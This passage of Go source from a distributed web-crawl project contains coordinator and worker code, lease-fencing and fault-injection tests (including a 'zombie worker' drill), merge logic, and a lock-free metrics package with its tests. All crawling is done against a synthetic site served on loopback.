			ctx, cancelAll := context.WithCancel(context.Background())
			defer cancelAll()
			victimCtx, killVictim := context.WithCancel(ctx)
			defer killVictim()

			// The victim dies on the second crawled week of one of its
			// assignments, so the dying epoch always leaves an accepted
			// span behind — reassignment must then produce a second span
			// for that partition.
			var injectOnce sync.Once
			injected := make(chan struct{})
			weeksSeen := make(map[int]int)
			var mu sync.Mutex
			victimHook := func(partition, week int) error {
				mu.Lock()
				weeksSeen[partition]++
				n := weeksSeen[partition]
				mu.Unlock()
				if n >= 2 {
					var fired bool
					injectOnce.Do(func() {
						fired = true
						close(injected)
						if nw > 1 {
							killVictim() // the process dies, lease and all
						}
					})
					if fired {
						return ErrInjected
					}
				}
				return nil
			}

			errs := make([]chan error, nw)
			for i := 0; i < nw; i++ {
				w := &Worker{
					ID:           fmt.Sprintf("w%d", i),
					Coord:        client,
					CrawlWorkers: 8,
					Logf:         t.Logf,
				}
				wctx := ctx
				if i == 0 {
					w.OnWeek = victimHook
					if nw > 1 {
						wctx = victimCtx
					}
				}
				ch := make(chan error, 1)
				errs[i] = ch
				go func() { ch <- w.Run(wctx) }()
			}

			// Let the run proceed deterministically until the injection,
			// then drive lease expiry so the dead (or aborted) lease frees
			// up and the run can complete.
			select {
			case <-injected:
			case <-time.After(60 * time.Second):
				t.Fatal("injection never fired")
			}
			advanceUntil(t, clk, 60*time.Second, coord.Done)
			cancelAll()
			waitDone(t, errs)

			spans := coord.Spans()
			if len(spans) <= spec.Partitions {
				t.Errorf("no reassignment happened: %d spans over %d partitions", len(spans), spec.Partitions)
			}
			res, err := Merge(spec, spans, MergeOptions{SkipPoC: true})
			if err != nil {
				t.Fatal(err)
			}
			if got := reportOf(res); got != want {
				t.Errorf("distributed report (%d workers, %d spans) diverges from serial reference", nw, len(spans))
			}
			// The aggregate crawl metrics must account for at least the
			// serial run's work (reassignment re-crawls add more).
			agg := coord.Status().Metrics
			if minAttempts := int64(testDomains * testWeeks); agg.Attempts < minAttempts {
				t.Errorf("aggregate metrics report %d attempts, want >= %d", agg.Attempts, minAttempts)
			}
		})
	}
}

// A coordinator restart rehydrates its journal: leases, epochs, and
// accepted spans survive, a stale epoch stays fenced, and the epoch
// counter never regresses into reuse.
func TestCoordinatorRestartRehydrates(t *testing.T) {
	clk := newFakeClock()
	dir := t.TempDir()
	spec := RunSpec{Domains: 20, Weeks: 4, Seed: 3, Partitions: 2, Dir: dir, LeaseTTL: time.Second}
	c1, err := NewCoordinator(spec)
	if err != nil {
		t.Fatal(err)
	}
	c1.Now = clk.Now

	lA := c1.Lease("wA")
	if !lA.Assigned || lA.Partition != 0 || lA.Epoch != 1 {
		t.Fatalf("first lease: %+v", lA)
	}
	for week := 0; week < 2; week++ {
		if resp := c1.Commit(CommitRequest{Worker: "wA", Partition: 0, Epoch: lA.Epoch, Week: week}); !resp.OK {
			t.Fatalf("commit week %d: %+v", week, resp)
		}
	}
	lB := c1.Lease("wB")
	if !lB.Assigned || lB.Partition != 1 {
		t.Fatalf("second lease: %+v", lB)
	}
	if resp := c1.Commit(CommitRequest{Worker: "wB", Partition: 1, Epoch: lB.Epoch, Week: 0}); !resp.OK {
		t.Fatalf("commit: %+v", resp)
	}

	// Restart: a new coordinator over the same directory.
	c2, err := NewCoordinator(spec)
	if err != nil {
		t.Fatal(err)
	}
	c2.Now = clk.Now
	st := c2.Status()
	if len(st.Spans) != 2 {
		t.Fatalf("rehydrated %d spans, want 2: %+v", len(st.Spans), st.Spans)
	}
	SortSpans(st.Spans)
	if st.Spans[0].ToWeek != 2 || st.Spans[1].ToWeek != 1 {
		t.Errorf("rehydrated spans wrong: %+v", st.Spans)
	}
	if st.Assigned[0] != lA.Epoch || st.Assigned[1] != lB.Epoch {
		t.Errorf("rehydrated leases wrong: %+v", st.Assigned)
	}
	// The rehydrated lease is live (the clock has not moved) ...
	if resp := c2.Renew(RenewRequest{Worker: "wA", Partition: 0, Epoch: lA.Epoch}); !resp.OK {
		t.Errorf("rehydrated renew refused: %+v", resp)
	}
	// ... until the clock passes its deadline.
	clk.Advance(2 * spec.LeaseTTL)
	if resp := c2.Renew(RenewRequest{Worker: "wA", Partition: 0, Epoch: lA.Epoch}); resp.OK {
		t.Error("renew of an expired rehydrated lease succeeded")
	}
	// Reassignment resumes at the accepted frontier under a fresh epoch.
	lC := c2.Lease("wC")
	if !lC.Assigned || lC.StartWeek != 2 || lC.Epoch <= lB.Epoch {
		t.Fatalf("post-restart lease: %+v", lC)
	}
	// The dead epoch stays fenced across the restart.
	if resp := c2.Commit(CommitRequest{Worker: "wA", Partition: 0, Epoch: lA.Epoch, Week: 2}); resp.OK {
		t.Error("stale-epoch commit accepted after restart")
	}
	// A state file from a different run is refused.
	other := spec
	other.Seed = 99
	if _, err := NewCoordinator(other); err == nil {
		t.Error("coordinator adopted a different run's state")
	}
}

// Protocol edge cases: duplicate commits are idempotent for the live
// epoch, gaps are refused, and an expired lease fences both renew and
// commit.
func TestCoordinatorProtocolEdges(t *testing.T) {
	clk := newFakeClock()
	spec := RunSpec{Domains: 20, Weeks: 3, Seed: 3, Partitions: 1, Dir: t.TempDir(), LeaseTTL: time.Second}
	c, err := NewCoordinator(spec)
	if err != nil {
		t.Fatal(err)
	}
	c.Now = clk.Now

	l := c.Lease("w1")
	if !l.Assigned {
		t.Fatalf("lease: %+v", l)
	}
	if resp := c.Commit(CommitRequest{Worker: "w1", Partition: 0, Epoch: l.Epoch, Week: 1}); resp.OK {
		t.Error("non-contiguous commit accepted")
	}
	if resp := c.Commit(CommitRequest{Worker: "w1", Partition: 0, Epoch: l.Epoch, Week: 0}); !resp.OK {
		t.Fatalf("commit: %+v", resp)
	}
	// Retransmit after a lost response: idempotent OK.
	if resp := c.Commit(CommitRequest{Worker: "w1", Partition: 0, Epoch: l.Epoch, Week: 0}); !resp.OK {
		t.Errorf("duplicate commit refused: %+v", resp)
	}
	// Another worker cannot commit on this lease.
	if resp := c.Commit(CommitRequest{Worker: "w2", Partition: 0, Epoch: l.Epoch, Week: 1}); resp.OK {
		t.Error("foreign worker's commit accepted")
	}
	// Expiry fences everything; the next lease resumes at week 1.
	clk.Advance(2 * spec.LeaseTTL)
	if resp := c.Renew(RenewRequest{Worker: "w1", Partition: 0, Epoch: l.Epoch}); resp.OK {
		t.Error("expired renew succeeded")
	}
	if resp := c.Commit(CommitRequest{Worker: "w1", Partition: 0, Epoch: l.Epoch, Week: 1}); resp.OK {
		t.Error("expired commit accepted")
	}
	l2 := c.Lease("w2")
	if !l2.Assigned || l2.StartWeek != 1 || l2.Epoch == l.Epoch {
		t.Fatalf("reassignment lease: %+v", l2)
	}
	// Finishing the partition marks the run done.
	for week := 1; week < spec.Weeks; week++ {
		resp := c.Commit(CommitRequest{Worker: "w2", Partition: 0, Epoch: l2.Epoch, Week: week})
		if !resp.OK {
			t.Fatalf("commit week %d: %+v", week, resp)
		}
		if wantDone := week == spec.Weeks-1; resp.Done != wantDone {
			t.Errorf("week %d: done = %v, want %v", week, resp.Done, wantDone)
		}
	}
	if !c.Done() {
		t.Error("run not done after final commit")
	}
	if l3 := c.Lease("w3"); !l3.Done || l3.Assigned {
		t.Errorf("lease after completion: %+v", l3)
	}
}
