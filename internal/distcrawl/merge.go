package distcrawl

import (
	"fmt"
	"os"
	"sort"

	"clientres/internal/core"
	"clientres/internal/store"
	"clientres/internal/webgen"
)

// MergeOptions parameterizes Merge.
type MergeOptions struct {
	// SkipPoC skips the version-validation experiment in the merged
	// Results (tests; reports stay comparable to serial runs that also
	// skipped it).
	SkipPoC bool
}

// Merge turns a completed (or partially crawled) distributed run into one
// Results: every accepted span's generation is sealed if its worker
// never closed it — ResumeSegmented truncates the torn tail back to the
// last store commit and an immediate Close writes the manifest of
// exactly the committed prefix — then all spans replay through
// core.MergeWorkerStores with their coordinator-accepted week ranges.
// The per-partition expected observation counts are recomputed from the
// spec's seed, so a short or padded generation fails the merge loudly.
func Merge(spec RunSpec, spans []Span, opt MergeOptions) (*core.Results, error) {
	if len(spans) == 0 {
		return nil, fmt.Errorf("distcrawl: merge of zero spans")
	}
	replay := make([]core.ReplaySpan, 0, len(spans))
	for _, sp := range spans {
		dir := GenDir(spec.Dir, sp.Partition, sp.Epoch)
		if err := sealGeneration(dir); err != nil {
			return nil, err
		}
		replay = append(replay, core.ReplaySpan{
			Path: dir, Partition: sp.Partition,
			FromWeek: sp.FromWeek, ToWeek: sp.ToWeek,
		})
	}
	// The expected per-partition domain counts come from the same
	// deterministic population every worker crawled.
	eco := webgen.New(webgen.Config{Domains: spec.Domains, Weeks: spec.Weeks, Seed: spec.Seed, Bundling: spec.Bundling})
	perPart := make([]int, spec.Partitions)
	for i := range eco.Sites {
		perPart[store.ShardOf(eco.Sites[i].Domain.Name, spec.Partitions)]++
	}
	return core.MergeWorkerStores(replay, core.MergeConfig{
		Weeks: spec.Weeks, Domains: spec.Domains, Partitions: spec.Partitions,
		DomainsPerPartition: perPart, SkipPoC: opt.SkipPoC,
	})
}

// sealGeneration makes an unsealed generation directory readable: a
// worker that crashed (or was fenced) left fsynced segments plus a
// checkpoint but no manifest. Resuming at the checkpoint's own identity
// amputates any torn tail past the last commit, and closing immediately
// writes a manifest covering exactly the committed prefix. A generation
// its worker closed cleanly already has a manifest and is left alone.
func sealGeneration(dir string) error {
	if store.IsSegmented(dir) {
		return nil
	}
	if _, err := os.Stat(dir); err != nil {
		return fmt.Errorf("distcrawl: generation %s missing: %w", dir, err)
	}
	ck, err := store.ReadCheckpoint(dir)
	if err != nil {
		return fmt.Errorf("distcrawl: sealing %s: %w", dir, err)
	}
	w, _, err := store.ResumeSegmented(dir, store.SegmentedOptions{Run: ck.Run})
	if err != nil {
		return fmt.Errorf("distcrawl: sealing %s: %w", dir, err)
	}
	if err := w.Close(); err != nil {
		return fmt.Errorf("distcrawl: sealing %s: %w", dir, err)
	}
	return nil
}

// SortSpans orders spans partition-major, week-minor — the deterministic
// order state files and tests present them in.
func SortSpans(spans []Span) {
	sort.Slice(spans, func(i, j int) bool {
		if spans[i].Partition != spans[j].Partition {
			return spans[i].Partition < spans[j].Partition
		}
		return spans[i].FromWeek < spans[j].FromWeek
	})
}
