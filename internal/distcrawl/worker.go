package distcrawl

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"sync/atomic"
	"time"

	"clientres/internal/alexa"
	"clientres/internal/core"
	"clientres/internal/crawler"
	"clientres/internal/fingerprint"
	"clientres/internal/store"
	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

// Worker runs crawl assignments against a coordinator: register, lease a
// partition, crawl it week by week through the existing resilient crawl
// path — committing each week to its own generation store first, then to
// the coordinator — while a heartbeat goroutine renews the lease. A
// refused renewal or commit means the epoch is fenced: the worker aborts
// the assignment (keeping the accepted prefix on disk) and leases anew.
type Worker struct {
	// ID names the worker in the protocol (and logs).
	ID string
	// Coord is the coordinator client.
	Coord *Client
	// CrawlWorkers bounds per-assignment crawl concurrency (0 = crawler
	// default).
	CrawlWorkers int
	// FetchTimeout bounds one whole page fetch (crawler.Config.FetchTimeout)
	// so a hung host cannot stall the worker past its lease.
	FetchTimeout time.Duration
	// Logf, when set, receives one line per assignment event.
	Logf func(format string, args ...any)

	// HeartbeatOff, while true, blackholes lease renewals (accepted
	// commits still renew server-side) — the fault-injection switch for
	// the partitioned-worker drills.
	HeartbeatOff atomic.Bool
	// OnWeek, when set, runs after a week is crawled and before it is
	// committed. Returning an error aborts the assignment at that point —
	// the crash injection seam; a stall injection blocks inside the hook.
	OnWeek func(partition, week int) error
	// OnFenced, when set, observes every protocol-side fencing rejection
	// (renew or commit) — the zombie drills assert through it.
	OnFenced func(partition int, epoch int64, week int, reason string)
}

// ErrInjected marks a fault-injection abort (tests').
var ErrInjected = errors.New("distcrawl: injected fault")

// errAssignment wraps failures that end one assignment but not the
// worker: fencing, injected faults, a mid-week lease loss.
type errAssignment struct{ err error }

func (e errAssignment) Error() string { return e.err.Error() }
func (e errAssignment) Unwrap() error { return e.err }

func (w *Worker) logf(format string, args ...any) {
	if w.Logf != nil {
		w.Logf(format, args...)
	}
}

func (w *Worker) fenced(partition int, epoch int64, week int, reason string) {
	if w.OnFenced != nil {
		w.OnFenced(partition, epoch, week, reason)
	}
}

// Run registers, then serves lease assignments until the coordinator
// reports the run done or ctx is canceled. The synthetic ecosystem is
// regenerated from the spec's seed and served on a private loopback
// listener — every worker crawls an identical web, which is what makes
// the merged dataset equal a serial crawl's.
func (w *Worker) Run(ctx context.Context) error {
	spec, err := w.Coord.Register(w.ID)
	if err != nil {
		return err
	}
	eco := webgen.New(webgen.Config{Domains: spec.Domains, Weeks: spec.Weeks, Seed: spec.Seed, Bundling: spec.Bundling})

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("distcrawl: %w", err)
	}
	srv := &http.Server{Handler: webserver.New(eco)}
	served := make(chan struct{})
	go func() {
		defer close(served)
		_ = srv.Serve(ln)
	}()
	defer func() {
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(shutdownCtx)
		<-served
	}()
	baseURL := "http://" + ln.Addr().String()

	byName := eco.List.ByName()
	// Partition the domain list once: partition p crawls exactly the
	// domains store.ShardOf assigns it — the politeness invariant (a host
	// lives on one worker) and the merge's shard invariant, in one hash.
	partDomains := make([][]string, spec.Partitions)
	for i := range eco.Sites {
		name := eco.Sites[i].Domain.Name
		p := store.ShardOf(name, spec.Partitions)
		partDomains[p] = append(partDomains[p], name)
	}

	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		resp, err := w.Coord.Lease(w.ID)
		if err != nil {
			return err
		}
		if resp.Done {
			w.logf("%s: run complete", w.ID)
			return nil
		}
		if !resp.Assigned {
			// Everything is leased out; poll again shortly.
			select {
			case <-time.After(50 * time.Millisecond):
			case <-ctx.Done():
				return ctx.Err()
			}
			continue
		}
		err = w.runAssignment(ctx, spec, resp, baseURL, byName, partDomains[resp.Partition])
		var ae errAssignment
		switch {
		case err == nil:
		case errors.As(err, &ae):
			w.logf("%s: assignment partition %d epoch %d aborted: %v", w.ID, resp.Partition, resp.Epoch, err)
		default:
			return err
		}
	}
}

// runAssignment crawls one leased partition from its start week, one
// generation store per epoch. Commit order is store-first: a week is
// durably on disk before the coordinator hears of it, so every accepted
// span is replayable; the converse — store-committed but protocol-
// refused — is surplus the merge's week filter discards.
func (w *Worker) runAssignment(ctx context.Context, spec RunSpec, l LeaseResponse,
	baseURL string, byName map[string]alexa.Domain, domains []string) (retErr error) {
	w.logf("%s: leased partition %d epoch %d weeks [%d,%d)", w.ID, l.Partition, l.Epoch, l.StartWeek, spec.Weeks)
	dir := GenDir(spec.Dir, l.Partition, l.Epoch)
	run := store.RunID{
		Seed: spec.Seed, Domains: spec.Domains, Weeks: spec.Weeks,
		Mode: int(core.ModeCrawl), Partition: l.Partition, Epoch: l.Epoch,
	}
	sw, err := store.CreateSegmentedWith(dir, 1, store.SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		return err
	}
	closed := false
	defer func() {
		if !closed {
			// Keep the committed prefix, write no manifest: the merge
			// seals live generations itself, and an aborted one keeps
			// reading as incomplete.
			_ = sw.Abort()
		}
	}()

	// The assignment context dies with the lease: the heartbeat goroutine
	// cancels it the moment a renewal is refused, unwinding the crawl
	// mid-week instead of finishing work nobody will accept.
	actx, cancel := context.WithCancel(ctx)
	defer cancel()
	var lost atomic.Bool
	hbDone := make(chan struct{})
	go func() {
		defer close(hbDone)
		interval := l.TTL / 3
		if interval <= 0 {
			interval = time.Second
		}
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-actx.Done():
				return
			case <-t.C:
			}
			if w.HeartbeatOff.Load() {
				continue
			}
			resp, err := w.Coord.Renew(RenewRequest{Worker: w.ID, Partition: l.Partition, Epoch: l.Epoch})
			if err != nil {
				continue // transient; the lease survives until its TTL
			}
			if !resp.OK {
				w.fenced(l.Partition, l.Epoch, -1, resp.Reason)
				lost.Store(true)
				cancel()
				return
			}
		}
	}()
	defer func() {
		cancel()
		<-hbDone
		if lost.Load() && retErr == nil {
			retErr = errAssignment{fmt.Errorf("distcrawl: lease lost (fenced)")}
		}
	}()

	cr := crawler.New(crawler.Config{
		BaseURL:      baseURL,
		Workers:      w.CrawlWorkers,
		Backoff:      crawler.Backoff{Seed: spec.Seed},
		FetchScripts: spec.BundleScan,
		FetchTimeout: w.FetchTimeout,
	})
	memo := fingerprint.NewMemo(0)

	for week := l.StartWeek; week < spec.Weeks; week++ {
		var obsErr error
		err := cr.CrawlWeek(actx, week, domains, func(p crawler.Page) {
			obs := core.ObservationFromPage(byName, memo, p)
			if obsErr == nil {
				obsErr = sw.Write(obs)
			}
		})
		if err != nil {
			if lost.Load() {
				return errAssignment{fmt.Errorf("distcrawl: lease lost mid-week %d", week)}
			}
			return errAssignment{err}
		}
		if obsErr != nil {
			return obsErr
		}
		if w.OnWeek != nil {
			if err := w.OnWeek(l.Partition, week); err != nil {
				return errAssignment{err}
			}
		}
		// Store first: the week must be durable before it is reported.
		if err := sw.CommitWeek(week); err != nil {
			if errors.Is(err, store.ErrFenced) {
				w.fenced(l.Partition, l.Epoch, week, err.Error())
				return errAssignment{err}
			}
			return err
		}
		resp, err := w.Coord.Commit(CommitRequest{
			Worker: w.ID, Partition: l.Partition, Epoch: l.Epoch,
			Week: week, Metrics: cr.Metrics(),
		})
		if err != nil {
			return errAssignment{err}
		}
		if !resp.OK {
			// Fenced: our store commit for this week is surplus — it lies
			// outside the span the coordinator accepted, and the merge's
			// week filter will never read it.
			w.fenced(l.Partition, l.Epoch, week, resp.Reason)
			return errAssignment{fmt.Errorf("distcrawl: commit fenced: %s", resp.Reason)}
		}
		w.logf("%s: partition %d epoch %d week %d committed", w.ID, l.Partition, l.Epoch, week)
		if resp.Done {
			break
		}
	}
	// The partition is fully crawled: seal the generation (manifest
	// written) so the merge can read it without resuming it first.
	closed = true
	return sw.Close()
}
