package distcrawl

import (
	"context"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clientres/internal/store"
)

// The zombie drill, end to end: a worker with its heartbeat blackholed
// stalls mid-assignment, its lease expires, the partition is reassigned,
// and the zombie then wakes and finishes the week — committing it to its
// OWN generation store (which succeeds: nobody shares those files) but
// getting the protocol commit fenced by epoch. The zombie's surplus
// store commit is provably excluded: its accepted span ends where the
// coordinator stopped accepting, and the merged report is byte-identical
// to the serial reference regardless.
func TestZombieWorkerFencedAndExcluded(t *testing.T) {
	if testing.Short() {
		t.Skip("zombie drill is not short")
	}
	want := serialReport(t)
	clk := newFakeClock()
	spec := testSpec(t.TempDir(), 2)
	coord, client := startCoordinator(t, spec, clk)

	ctx, cancelAll := context.WithCancel(context.Background())
	defer cancelAll()

	const stallWeek = 1
	stalled := make(chan struct{})  // zombie reached the stall point
	release := make(chan struct{})  // test lets the zombie continue
	var stallOnce sync.Once

	type fencing struct {
		partition int
		epoch     int64
		week      int
		reason    string
	}
	var mu sync.Mutex
	var fenced []fencing

	zombie := &Worker{ID: "zombie", Coord: client, CrawlWorkers: 8, Logf: t.Logf}
	zombie.HeartbeatOff.Store(true) // the blackhole: only commits ever renew
	var zombiePart atomic.Int64
	zombie.OnWeek = func(partition, week int) error {
		if week == stallWeek {
			stallOnce.Do(func() {
				zombiePart.Store(int64(partition))
				close(stalled)
				<-release // lease expires underneath us while we "hang"
			})
		}
		return nil
	}
	zombie.OnFenced = func(partition int, epoch int64, week int, reason string) {
		mu.Lock()
		fenced = append(fenced, fencing{partition, epoch, week, reason})
		mu.Unlock()
	}
	healthy := &Worker{ID: "healthy", Coord: client, CrawlWorkers: 8, Logf: t.Logf}

	errs := []chan error{make(chan error, 1), make(chan error, 1)}
	go func() { errs[0] <- zombie.Run(ctx) }()
	go func() { errs[1] <- healthy.Run(ctx) }()

	select {
	case <-stalled:
	case <-time.After(60 * time.Second):
		t.Fatal("zombie never reached the stall point")
	}
	part := int(zombiePart.Load())
	// The zombie holds the lease for part right now; record its epoch,
	// then expire it and wait for the healthy worker to take over and
	// commit the stalled week under a new epoch.
	st := coord.Status()
	zombieEpoch, held := st.Assigned[part]
	if !held {
		t.Fatalf("zombie holds no lease on partition %d: %+v", part, st.Assigned)
	}
	advanceUntil(t, clk, 60*time.Second, func() bool {
		for _, sp := range coord.Spans() {
			if sp.Partition == part && sp.Epoch != zombieEpoch && sp.ToWeek > stallWeek {
				return true
			}
		}
		return false
	})
	close(release)
	advanceUntil(t, clk, 60*time.Second, coord.Done)
	cancelAll()
	waitDone(t, errs)

	// The zombie observed its fencing: a rejected commit (or renewal)
	// for the stalled assignment.
	mu.Lock()
	sawCommitFence := false
	for _, f := range fenced {
		if f.partition == part && f.epoch == zombieEpoch && f.week == stallWeek {
			sawCommitFence = true
		}
	}
	mu.Unlock()
	if !sawCommitFence {
		t.Errorf("zombie's week-%d commit was never fenced: %+v", stallWeek, fenced)
	}

	// Provably fenced on disk: the zombie's generation store-committed
	// through the stalled week (its own files — that write succeeds), but
	// the coordinator's accepted span for that epoch stops before it.
	ck, err := store.ReadCheckpoint(GenDir(spec.Dir, part, zombieEpoch))
	if err != nil {
		t.Fatal(err)
	}
	if ck.CommittedWeeks != stallWeek+1 {
		t.Errorf("zombie generation committed %d weeks, want %d (through the fenced week)", ck.CommittedWeeks, stallWeek+1)
	}
	zombieSpan := Span{ToWeek: -1}
	for _, sp := range coord.Spans() {
		if sp.Partition == part && sp.Epoch == zombieEpoch {
			zombieSpan = sp
		}
	}
	if zombieSpan.ToWeek == -1 {
		t.Fatal("zombie epoch left no accepted span")
	}
	if zombieSpan.ToWeek != stallWeek {
		t.Errorf("zombie accepted span ends at %d, want %d — the surplus commit leaked", zombieSpan.ToWeek, stallWeek)
	}

	// And the headline invariant survives the whole drill.
	res, err := Merge(spec, coord.Spans(), MergeOptions{SkipPoC: true})
	if err != nil {
		t.Fatal(err)
	}
	if got := reportOf(res); got != want {
		t.Error("report with a fenced zombie diverges from the serial reference")
	}
}
