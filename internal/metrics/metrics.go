// Package metrics provides the lock-free instrumentation primitives shared
// by the crawler and the online audit service: an atomic counter and a
// power-of-two latency histogram. Both are safe for concurrent use, cost no
// allocation on the hot path, and snapshot without stopping writers.
package metrics

import (
	"math/bits"
	"sync/atomic"
	"time"
)

// Counter is an atomic monotonic counter. The zero value is ready to use.
type Counter struct {
	v atomic.Int64
}

// Add increments the counter by n.
func (c *Counter) Add(n int64) { c.v.Add(n) }

// Inc increments the counter by one.
func (c *Counter) Inc() { c.v.Add(1) }

// Load returns the current value.
func (c *Counter) Load() int64 { return c.v.Load() }

// NumBuckets is the bucket count of a Histogram: bucket 33 caps at
// 2^33 µs ≈ 2.4h, beyond any latency the pipeline meters.
const NumBuckets = 34

// Histogram is a lock-free histogram with power-of-two microsecond
// buckets: bucket i counts latencies in [2^(i-1), 2^i) µs, so quantiles
// resolve to within a factor of two — plenty for p50/p99 trend lines at
// zero allocation on the hot path. The zero value is ready to use.
type Histogram struct {
	buckets [NumBuckets]atomic.Int64
}

// Record adds one observation.
func (h *Histogram) Record(d time.Duration) {
	us := d.Microseconds()
	if us < 0 {
		us = 0
	}
	i := bits.Len64(uint64(us))
	if i >= NumBuckets {
		i = NumBuckets - 1
	}
	h.buckets[i].Add(1)
}

// Total returns the number of recorded observations.
func (h *Histogram) Total() int64 {
	var total int64
	for i := range h.buckets {
		total += h.buckets[i].Load()
	}
	return total
}

// Buckets returns a point-in-time copy of the bucket counts. Bucket i
// counts observations in [2^(i-1), 2^i) microseconds (bucket 0: under
// 1 µs; the last bucket also absorbs everything above its lower bound).
func (h *Histogram) Buckets() [NumBuckets]int64 {
	var out [NumBuckets]int64
	for i := range h.buckets {
		out[i] = h.buckets[i].Load()
	}
	return out
}

// BucketUpperBound returns the inclusive upper latency bound of bucket i.
func BucketUpperBound(i int) time.Duration {
	if i < 0 {
		i = 0
	}
	if i >= NumBuckets {
		i = NumBuckets - 1
	}
	return time.Duration(uint64(1)<<uint(i)) * time.Microsecond
}

// Quantile returns the upper bound of the bucket where the q-quantile
// falls, or 0 when the histogram is empty.
func (h *Histogram) Quantile(q float64) time.Duration {
	return QuantileOf(h.Buckets(), q)
}

// QuantileOf resolves a quantile over a detached bucket-count array (the
// shape Buckets returns), or 0 when the counts are empty. It exists so
// snapshots that carry their buckets across process boundaries — merged
// per-worker crawl metrics — resolve quantiles identically to a live
// histogram.
func QuantileOf(buckets [NumBuckets]int64, q float64) time.Duration {
	var total int64
	for i := range buckets {
		total += buckets[i]
	}
	if total == 0 {
		return 0
	}
	rank := int64(q * float64(total))
	if rank >= total {
		rank = total - 1
	}
	var seen int64
	for i := range buckets {
		seen += buckets[i]
		if seen > rank {
			return BucketUpperBound(i)
		}
	}
	return BucketUpperBound(NumBuckets - 1)
}
