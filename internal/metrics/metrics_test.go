package metrics

import (
	"sync"
	"testing"
	"time"
)

func TestCounter(t *testing.T) {
	var c Counter
	if c.Load() != 0 {
		t.Fatalf("zero Counter loads %d", c.Load())
	}
	c.Inc()
	c.Add(41)
	if got := c.Load(); got != 42 {
		t.Fatalf("Load = %d, want 42", got)
	}
}

func TestCounterConcurrent(t *testing.T) {
	var c Counter
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				c.Inc()
			}
		}()
	}
	wg.Wait()
	if got := c.Load(); got != 8000 {
		t.Fatalf("Load = %d, want 8000", got)
	}
}

func TestHistogramEmpty(t *testing.T) {
	var h Histogram
	if got := h.Quantile(0.5); got != 0 {
		t.Fatalf("empty histogram quantile = %v, want 0", got)
	}
	if got := h.Total(); got != 0 {
		t.Fatalf("empty histogram total = %d, want 0", got)
	}
}

// TestHistogramBucketing pins the power-of-two bucket boundaries: an
// observation of d microseconds lands in bucket Len64(d), and Quantile
// resolves to that bucket's upper bound.
func TestHistogramBucketing(t *testing.T) {
	var h Histogram
	h.Record(100 * time.Microsecond) // bucket 7: [64, 128) µs
	if got := h.Quantile(0.5); got != 128*time.Microsecond {
		t.Fatalf("quantile = %v, want 128µs", got)
	}
	if got := h.Total(); got != 1 {
		t.Fatalf("total = %d, want 1", got)
	}
	b := h.Buckets()
	if b[7] != 1 {
		t.Fatalf("buckets = %v, want observation in bucket 7", b)
	}
}

func TestHistogramQuantileOrdering(t *testing.T) {
	var h Histogram
	for i := 0; i < 99; i++ {
		h.Record(time.Millisecond)
	}
	h.Record(time.Second)
	p50, p99 := h.Quantile(0.50), h.Quantile(0.99)
	if p50 > p99 {
		t.Fatalf("p50 %v > p99 %v", p50, p99)
	}
	// 99 of 100 observations are ~1ms: p50 resolves within its bucket.
	if p50 != 1024*time.Microsecond {
		t.Fatalf("p50 = %v, want 1.024ms bucket bound", p50)
	}
	// rank 99 is the 1s outlier.
	if p99 != h.Quantile(1.0) {
		t.Fatalf("p99 %v != max %v with outlier at rank 99", p99, h.Quantile(1.0))
	}
}

func TestHistogramNegativeAndHuge(t *testing.T) {
	var h Histogram
	h.Record(-time.Second)    // clamps to bucket 0
	h.Record(100 * time.Hour) // clamps to the top bucket
	b := h.Buckets()
	if b[0] != 1 || b[NumBuckets-1] != 1 {
		t.Fatalf("clamping failed: buckets %v", b)
	}
}

func TestBucketUpperBound(t *testing.T) {
	if got := BucketUpperBound(0); got != time.Microsecond {
		t.Fatalf("bucket 0 bound = %v, want 1µs", got)
	}
	if got := BucketUpperBound(10); got != 1024*time.Microsecond {
		t.Fatalf("bucket 10 bound = %v, want 1.024ms", got)
	}
	if BucketUpperBound(-1) != BucketUpperBound(0) || BucketUpperBound(NumBuckets) != BucketUpperBound(NumBuckets-1) {
		t.Fatal("out-of-range bucket indices must clamp")
	}
}
